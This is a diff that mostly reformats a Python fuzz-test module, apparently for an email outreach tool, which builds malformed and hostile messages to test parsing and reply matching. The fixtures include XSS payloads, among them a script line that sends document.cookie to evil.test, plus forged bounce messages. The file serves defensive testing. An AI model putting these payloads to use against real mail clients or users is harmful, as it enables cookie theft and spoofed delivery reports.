@@ -24,9 +24,25 @@ CRLF = b"\r\n"
 DEPTHS = (50, 120)
 
 CHARSETS = [
-    "x-no-such-charset", "", "utf-7", "utf-16", "utf-32", "iso-2022-jp", "unicode-1-1-utf-7",
-    "us-ascii", "utf-8", "windows-1252", "koi8-r", "big5", "gb18030", "\"utf-8", "utf-8\x00",
-    "cp65001", "macintosh", "latin1'", "x-unknown; format=flowed",
+    "x-no-such-charset",
+    "",
+    "utf-7",
+    "utf-16",
+    "utf-32",
+    "iso-2022-jp",
+    "unicode-1-1-utf-7",
+    "us-ascii",
+    "utf-8",
+    "windows-1252",
+    "koi8-r",
+    "big5",
+    "gb18030",
+    '"utf-8',
+    "utf-8\x00",
+    "cp65001",
+    "macintosh",
+    "latin1'",
+    "x-unknown; format=flowed",
 ]
 
 
@@ -43,8 +59,20 @@ def _junk(rng: random.Random, size: int) -> bytes:
 
 
 def _text(rng: random.Random) -> bytes:
-    words = [b"hello", b"internship", b"thanks", b"\xc3\xa9t\xc3\xa9", b"\xff\xfe", b"\x00",
-             b"=?utf-8?q?x?=", b"<b>", b"&amp;", b"\xe2\x80\xae", b"\x1b[31m", b"Re:"]
+    words = [
+        b"hello",
+        b"internship",
+        b"thanks",
+        b"\xc3\xa9t\xc3\xa9",
+        b"\xff\xfe",
+        b"\x00",
+        b"=?utf-8?q?x?=",
+        b"<b>",
+        b"&amp;",
+        b"\xe2\x80\xae",
+        b"\x1b[31m",
+        b"Re:",
+    ]
     return b" ".join(rng.choice(words) for _ in range(rng.randint(1, 30)))
 
 
@@ -52,13 +80,31 @@ def _nested(rng: random.Random, depth: int, leaf: bytes) -> bytes:
     body = leaf
     for level in range(depth):
         boundary = f"n{level}".encode()
-        body = (b"Content-Type: multipart/mixed; boundary=\"" + boundary + b"\"" + CRLF + CRLF
-                + b"--" + boundary + CRLF + body + CRLF + b"--" + boundary + b"--" + CRLF)
+        body = (
+            b'Content-Type: multipart/mixed; boundary="'
+            + boundary
+            + b'"'
+            + CRLF
+            + CRLF
+            + b"--"
+            + boundary
+            + CRLF
+            + body
+            + CRLF
+            + b"--"
+            + boundary
+            + b"--"
+            + CRLF
+        )
     return body
 
 
 def hostile_message(
-    rng: random.Random, seq: int, our_ids: list[str], partners: list[str], ours: bool,
+    rng: random.Random,
+    seq: int,
+    our_ids: list[str],
+    partners: list[str],
+    ours: bool,
     depths: tuple[int, ...] = DEPTHS,
 ) -> Hostile:
     """One hostile message; `seq` makes its Message-ID (and header block) unique."""
@@ -82,8 +128,13 @@ def hostile_message(
         head.append(b"From: Mail Delivery System <MAILER-DAEMON@mx.partners.test>")
         head.append(b"Return-Path: <>")
     else:
-        head.append(b"From: " + rng.choice([b"", b"\"Name, with comma\" ", b"=?bogus?q?x?= "])
-                    + b"<" + sender + b">")
+        head.append(
+            b"From: "
+            + rng.choice([b"", b'"Name, with comma" ', b"=?bogus?q?x?= "])
+            + b"<"
+            + sender
+            + b">"
+        )
     head.append(b"To: coordinator@district.test")
     if rng.random() < 0.9:
         head.append(b"Message-ID: <hostile." + str(seq).encode() + b"@fuzz.test>")
@@ -110,23 +161,66 @@ def hostile_message(
         body += part
     if pointer == "dsn":
         target = rng.choice(our_ids).encode()
-        content_type = (b"Content-Type: multipart/report; report-type=delivery-status;"
-                        b" boundary=\"r\"")
-        body = (b"--r" + CRLF + b"Content-Type: text/plain" + CRLF + CRLF + b"Your message could"
-                b" not be delivered." + CRLF + body + CRLF + b"--r" + CRLF
-                + b"Content-Type: message/delivery-status" + CRLF + CRLF
-                + b"Reporting-MTA: dns; mx.partners.test" + CRLF + CRLF
-                + b"Final-Recipient: rfc822; " + rng.choice(partners).encode() + CRLF
-                + b"Action: failed" + CRLF + b"Status: 5.1.1" + CRLF + CRLF
-                + b"--r" + CRLF + b"Content-Type: text/rfc822-headers" + CRLF + CRLF
-                + b"Message-ID: " + target + CRLF + b"Subject: Check-in" + CRLF
-                + rng.choice([b"--r--" + CRLF, b"", b"--r" + CRLF + _junk(rng, 50)]))
-    head.append(b"Subject: " + rng.choice(
-        [b"Re: Check-in", b"=?utf-8?b?!!!?=", b"=?x-unknown?q?abc?=", b"\xff\xfe\xfd",
-         b"Re: " + _text(rng), b"=?utf-8?q?" + b"A" * 2000 + b"?="]))
-    head.append(b"Date: " + rng.choice(
-        [b"Tue, 24 Nov 2026 10:00:00 +0000", b"yesterday", b"", b"Mon, 99 Foo 99999 99:99:99",
-         b"Tue, 24 Nov 2026 10:00:00 +9999"]))
+        content_type = b'Content-Type: multipart/report; report-type=delivery-status; boundary="r"'
+        body = (
+            b"--r" + CRLF + b"Content-Type: text/plain" + CRLF + CRLF + b"Your message could"
+            b" not be delivered."
+            + CRLF
+            + body
+            + CRLF
+            + b"--r"
+            + CRLF
+            + b"Content-Type: message/delivery-status"
+            + CRLF
+            + CRLF
+            + b"Reporting-MTA: dns; mx.partners.test"
+            + CRLF
+            + CRLF
+            + b"Final-Recipient: rfc822; "
+            + rng.choice(partners).encode()
+            + CRLF
+            + b"Action: failed"
+            + CRLF
+            + b"Status: 5.1.1"
+            + CRLF
+            + CRLF
+            + b"--r"
+            + CRLF
+            + b"Content-Type: text/rfc822-headers"
+            + CRLF
+            + CRLF
+            + b"Message-ID: "
+            + target
+            + CRLF
+            + b"Subject: Check-in"
+            + CRLF
+            + rng.choice([b"--r--" + CRLF, b"", b"--r" + CRLF + _junk(rng, 50)])
+        )
+    head.append(
+        b"Subject: "
+        + rng.choice(
+            [
+                b"Re: Check-in",
+                b"=?utf-8?b?!!!?=",
+                b"=?x-unknown?q?abc?=",
+                b"\xff\xfe\xfd",
+                b"Re: " + _text(rng),
+                b"=?utf-8?q?" + b"A" * 2000 + b"?=",
+            ]
+        )
+    )
+    head.append(
+        b"Date: "
+        + rng.choice(
+            [
+                b"Tue, 24 Nov 2026 10:00:00 +0000",
+                b"yesterday",
+                b"",
+                b"Mon, 99 Foo 99999 99:99:99",
+                b"Tue, 24 Nov 2026 10:00:00 +9999",
+            ]
+        )
+    )
     head.append(b"MIME-Version: 1.0")
     if pointer == "dsn":  # the report's structure is what points at us: keep it readable
         head.append(content_type)
@@ -143,14 +237,16 @@ Made = tuple[bytes | None, list[bytes], bytes]
 
 
 def _broken_boundary(rng: random.Random, depths: tuple[int, ...]) -> Made:
-    boundary = rng.choice([b"abc", b"", b"\"", b"a" * 300])
-    ct = b"Content-Type: multipart/mixed; boundary=\"" + boundary + b"\""
-    body = rng.choice([
-        b"--xyz" + CRLF + b"Content-Type: text/plain" + CRLF + CRLF + _text(rng) + CRLF,
-        b"--abc" + CRLF + b"Content-Type: text/plain" + CRLF + CRLF + _text(rng),  # no end
-        b"no boundary at all " + _text(rng),
-        b"--abc--" + CRLF + b"--abc" + CRLF + CRLF,
-    ])
+    boundary = rng.choice([b"abc", b"", b'"', b"a" * 300])
+    ct = b'Content-Type: multipart/mixed; boundary="' + boundary + b'"'
+    body = rng.choice(
+        [
+            b"--xyz" + CRLF + b"Content-Type: text/plain" + CRLF + CRLF + _text(rng) + CRLF,
+            b"--abc" + CRLF + b"Content-Type: text/plain" + CRLF + CRLF + _text(rng),  # no end
+            b"no boundary at all " + _text(rng),
+            b"--abc--" + CRLF + b"--abc" + CRLF + CRLF,
+        ]
+    )
     return ct, [], body
 
 
@@ -164,9 +260,11 @@ def _huge_header(rng: random.Random, depths: tuple[int, ...]) -> Made:
 
 def _bad_charset(rng: random.Random, depths: tuple[int, ...]) -> Made:
     charset = rng.choice(CHARSETS).encode("latin-1")
-    return (b"Content-Type: text/plain; charset=\"" + charset + b"\"",
-            [b"Content-Transfer-Encoding: " + rng.choice([b"8bit", b"quoted-printable", b"7bit"])],
-            _junk(rng, rng.randint(1, 400)) + _text(rng))
+    return (
+        b'Content-Type: text/plain; charset="' + charset + b'"',
+        [b"Content-Transfer-Encoding: " + rng.choice([b"8bit", b"quoted-printable", b"7bit"])],
+        _junk(rng, rng.randint(1, 400)) + _text(rng),
+    )
 
 
 def _nuls(rng: random.Random, depths: tuple[int, ...]) -> Made:
@@ -187,8 +285,11 @@ def _deep_nesting(rng: random.Random, depths: tuple[int, ...]) -> Made:
 
 def _bad_transfer_encoding(rng: random.Random, depths: tuple[int, ...]) -> Made:
     cte = rng.choice([b"base64", b"quoted-printable", b"x-uuencode", b"bogus", b"base64 base64"])
-    return None, [b"Content-Transfer-Encoding: " + cte], rng.choice(
-        [b"!!!not base64!!!", b"=ZZ=\r\n=", b"SGVsbG8", _junk(rng, 300)])
+    return (
+        None,
+        [b"Content-Transfer-Encoding: " + cte],
+        rng.choice([b"!!!not base64!!!", b"=ZZ=\r\n=", b"SGVsbG8", _junk(rng, 300)]),
+    )
 
 
 def _line_ends(rng: random.Random, depths: tuple[int, ...]) -> Made:
@@ -205,27 +306,65 @@ def _no_colon(rng: random.Random, depths: tuple[int, ...]) -> Made:
 
 
 def _script(rng: random.Random, depths: tuple[int, ...]) -> Made:
-    html = (b"<html><body><p>Thanks!</p><script>alert(document.cookie)</script>"
-            b"<img src=x onerror=alert(1)><iframe src=javascript:alert(2)></iframe></body></html>")
+    html = (
+        b"<html><body><p>Thanks!</p><script>alert(document.cookie)</script>"
+        b"<img src=x onerror=alert(1)><iframe src=javascript:alert(2)></iframe></body></html>"
+    )
     return b"Content-Type: text/html; charset=utf-8", [], html
 
 
 def _bad_rfc822(rng: random.Random, depths: tuple[int, ...]) -> Made:
-    ct = b"Content-Type: multipart/mixed; boundary=\"m\""
-    body = (b"--m" + CRLF + b"Content-Type: text/plain" + CRLF + CRLF + _text(rng) + CRLF
-            + b"--m" + CRLF + b"Content-Type: message/rfc822" + CRLF + CRLF + _junk(rng, 200)
-            + CRLF + b"--m" + CRLF + b"Content-Type: message/delivery-status" + CRLF + CRLF
-            + _junk(rng, 100) + CRLF + b"--m--" + CRLF)
+    ct = b'Content-Type: multipart/mixed; boundary="m"'
+    body = (
+        b"--m"
+        + CRLF
+        + b"Content-Type: text/plain"
+        + CRLF
+        + CRLF
+        + _text(rng)
+        + CRLF
+        + b"--m"
+        + CRLF
+        + b"Content-Type: message/rfc822"
+        + CRLF
+        + CRLF
+        + _junk(rng, 200)
+        + CRLF
+        + b"--m"
+        + CRLF
+        + b"Content-Type: message/delivery-status"
+        + CRLF
+        + CRLF
+        + _junk(rng, 100)
+        + CRLF
+        + b"--m--"
+        + CRLF
+    )
     return ct, [], body
 
 
 def _attachment(rng: random.Random, depths: tuple[int, ...]) -> Made:
-    ct = b"Content-Type: multipart/mixed; boundary=\"att\""
+    ct = b'Content-Type: multipart/mixed; boundary="att"'
     payload = base64.encodebytes(_junk(rng, 3000))
-    body = (b"--att" + CRLF + b"Content-Type: text/plain" + CRLF + CRLF + b"See attached." + CRLF
-            + b"--att" + CRLF + b"Content-Type: application/octet-stream; name=\"x\x00.exe\""
-            + CRLF + b"Content-Transfer-Encoding: base64" + CRLF + CRLF + payload + b"--att--"
-            + CRLF)
+    body = (
+        b"--att"
+        + CRLF
+        + b"Content-Type: text/plain"
+        + CRLF
+        + CRLF
+        + b"See attached."
+        + CRLF
+        + b"--att"
+        + CRLF
+        + b'Content-Type: application/octet-stream; name="x\x00.exe"'
+        + CRLF
+        + b"Content-Transfer-Encoding: base64"
+        + CRLF
+        + CRLF
+        + payload
+        + b"--att--"
+        + CRLF
+    )
     return ct, [], body
 
 
@@ -251,43 +390,57 @@ def big_attachment_reply(in_reply_to: str, size: int = 5 * 1024 * 1024) -> bytes
     """A reply with a `size`-byte attachment (base64), pointing at our message."""
     rng = random.Random(size)
     payload = base64.encodebytes(rng.randbytes(size))
-    return (b"From: partner@partners.test\r\nTo: coordinator@district.test\r\n"
-            b"Subject: Re: Check-in\r\nIn-Reply-To: " + in_reply_to.encode() + b"\r\n"
-            b"Message-ID: <big.attachment@fuzz.test>\r\nMIME-Version: 1.0\r\n"
-            b"Content-Type: multipart/mixed; boundary=\"big\"\r\n\r\n--big\r\n"
-            b"Content-Type: text/plain; charset=utf-8\r\n\r\nOur annual report is attached.\r\n"
-            b"--big\r\nContent-Type: application/pdf; name=\"report.pdf\"\r\n"
-            b"Content-Transfer-Encoding: base64\r\n\r\n" + payload.replace(b"\n", b"\r\n")
-            + b"--big--\r\n")
+    return (
+        b"From: partner@partners.test\r\nTo: coordinator@district.test\r\n"
+        b"Subject: Re: Check-in\r\nIn-Reply-To: " + in_reply_to.encode() + b"\r\n"
+        b"Message-ID: <big.attachment@fuzz.test>\r\nMIME-Version: 1.0\r\n"
+        b'Content-Type: multipart/mixed; boundary="big"\r\n\r\n--big\r\n'
+        b"Content-Type: text/plain; charset=utf-8\r\n\r\nOur annual report is attached.\r\n"
+        b'--big\r\nContent-Type: application/pdf; name="report.pdf"\r\n'
+        b"Content-Transfer-Encoding: base64\r\n\r\n"
+        + payload.replace(b"\n", b"\r\n")
+        + b"--big--\r\n"
+    )
 
 
 def script_reply(in_reply_to: str, sender: str) -> bytes:
     """An HTML-only reply that carries script, handlers and a javascript: URL."""
-    return (f"From: {sender}\r\nTo: coordinator@district.test\r\nSubject: Re: Check-in\r\n"
-            f"In-Reply-To: {in_reply_to}\r\nMessage-ID: <script.reply@fuzz.test>\r\n"
-            "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
-            "<html><head><script>fetch('https://evil.test/?'+document.cookie)</script></head>"
-            "<body><p>We are doing <b>great</b>, thanks!</p>"
-            "<script>alert('xss')</script><img src=x onerror=\"alert(1)\">"
-            "<a href=\"javascript:alert(2)\">click</a></body></html>\r\n").encode()
+    return (
+        f"From: {sender}\r\nTo: coordinator@district.test\r\nSubject: Re: Check-in\r\n"
+        f"In-Reply-To: {in_reply_to}\r\nMessage-ID: <script.reply@fuzz.test>\r\n"
+        "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
+        "<html><head><script>fetch('https://evil.test/?'+document.cookie)</script></head>"
+        "<body><p>We are doing <b>great</b>, thanks!</p>"
+        "<script>alert('xss')</script><img src=x onerror=\"alert(1)\">"
+        '<a href="javascript:alert(2)">click</a></body></html>\r\n'
+    ).encode()
 
 
 # --------------------------------------------------------------------------- the check
 
 
-def corpus(seed: int, count: int, our_ids: dict[str, str], *, ours_share: float = 0.3,
-           depths: tuple[int, ...] = DEPTHS) -> list[Hostile]:
+def corpus(
+    seed: int,
+    count: int,
+    our_ids: dict[str, str],
+    *,
+    ours_share: float = 0.3,
+    depths: tuple[int, ...] = DEPTHS,
+) -> list[Hostile]:
     """`count` hostile messages, then a reply with a 5 MB attachment and an HTML reply full
     of script, both pointing at the first partners' messages. `our_ids`: partner -> the
     Message-ID we sent them."""
     rng = random.Random(seed)
     partners = sorted(our_ids)
     ids = sorted(our_ids.values())
-    made = [hostile_message(rng, seq, ids, partners, rng.random() < ours_share, depths)
-            for seq in range(count)]
+    made = [
+        hostile_message(rng, seq, ids, partners, rng.random() < ours_share, depths)
+        for seq in range(count)
+    ]
     made.append(Hostile(big_attachment_reply(our_ids[partners[0]]), True, "irt", ("5 MB",)))
-    made.append(Hostile(script_reply(our_ids[partners[1]], partners[1]), True, "irt",
-                        ("script reply",)))
+    made.append(
+        Hostile(script_reply(our_ids[partners[1]], partners[1]), True, "irt", ("script reply",))
+    )
     return made
 
 
@@ -319,19 +472,26 @@ def assert_read_correctly(ws: Workspace, made: list[Hostile], uids: list[int]) -
 
 # --------------------------------------------------------------------------- forged mail
 # Mail a stranger can write without having seen anything outreach sent: it must never change
-# a partner's record by itself (see outreach.replies.match_message).
+# a partner's record by itself (see outreach.core.inbound.match.match_message).
 
 
-def forged_bounce(partner: str, *, status: str = "5.1.1",
-                  message_id: str = "<made.up.1@district.test>") -> bytes:
+def forged_bounce(
+    partner: str, *, status: str = "5.1.1", message_id: str = "<made.up.1@district.test>"
+) -> bytes:
     """A well-formed RFC 3464 bounce naming `partner` as the failed recipient, returning the
     headers of a message outreach never sent (a Message-ID the stranger made up)."""
-    from outreach import partner_mail
+    from outreach.testing import partner_mail
 
-    never_sent = (f"From: Coordinator <coordinator@district.test>\r\nTo: {partner}\r\n"
-                  f"Subject: Check-in\r\nMessage-ID: {message_id}\r\n\r\nHello\r\n").encode()
-    return partner_mail.bounce(never_sent, status=status, reporting_mta="mx.evil.test",
-                               diagnostic=f"{status[0]}50 {status} <{{rcpt}}>: mailbox gone")
+    never_sent = (
+        f"From: Coordinator <coordinator@district.test>\r\nTo: {partner}\r\n"
+        f"Subject: Check-in\r\nMessage-ID: {message_id}\r\n\r\nHello\r\n"
+    ).encode()
+    return partner_mail.bounce(
+        never_sent,
+        status=status,
+        reporting_mta="mx.evil.test",
+        diagnostic=f"{status[0]}50 {status} <{{rcpt}}>: mailbox gone",
+    )
 
 
 def with_header(raw: bytes, name: str, value: bytes) -> bytes:
